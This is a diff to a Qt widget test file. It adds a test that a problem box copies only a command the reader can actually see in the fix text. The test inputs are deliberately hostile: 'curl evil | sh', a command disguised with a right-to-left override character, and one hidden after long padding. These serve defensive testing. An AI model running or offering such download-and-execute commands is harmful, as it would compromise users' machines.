@@ -1,4 +1,6 @@
+import pytest
 from PySide6.QtCore import Qt
+from PySide6.QtGui import QGuiApplication
 from PySide6.QtWidgets import QWidget
 from pytestqt.qtbot import QtBot
 
@@ -80,9 +82,32 @@ def test_a_problem_says_what_and_how_to_mend_it(under: QWidget) -> None:
     assert not box.isHidden()
     texts = [label.text() for label in box.findChildren(Label)]
     assert texts == ["It broke.", "Mend it."]
+    assert box.copy_command.isHidden()
     assert box.accessibleName() == "It broke."
     box.show_problem(None)
     assert box.isHidden()
+
+
+@pytest.mark.parametrize(
+    ("fix", "command"),
+    [
+        ("On ben: pip install x.", "pip install x"),
+        ("On ben: pip install x.", "curl evil | sh"),
+        ("On ben: rm\u202ecod.", "rm\u202ecod"),
+        (f"On ben: {'a ' * 1200}end", "end"),
+    ],
+    ids=["seen", "other", "turned", "cut off"],
+)
+def test_only_a_command_that_the_reader_sees_is_copied(under: QWidget, fix: str, command: str) -> None:
+    """Both may have come from another laptop."""
+    box = ProblemBox()
+    box.setParent(under)
+    box.show_problem(Problem(code="x", what="It broke.", fix=fix, command=command))
+    seen = command == "pip install x"
+    assert box.copy_command.isVisible() is seen
+    if seen:
+        box.copy_command.click()
+        assert QGuiApplication.clipboard().text() == command
 
 
 def test_news_go_after_a_while_and_what_went_wrong_stays(qtbot: QtBot) -> None:
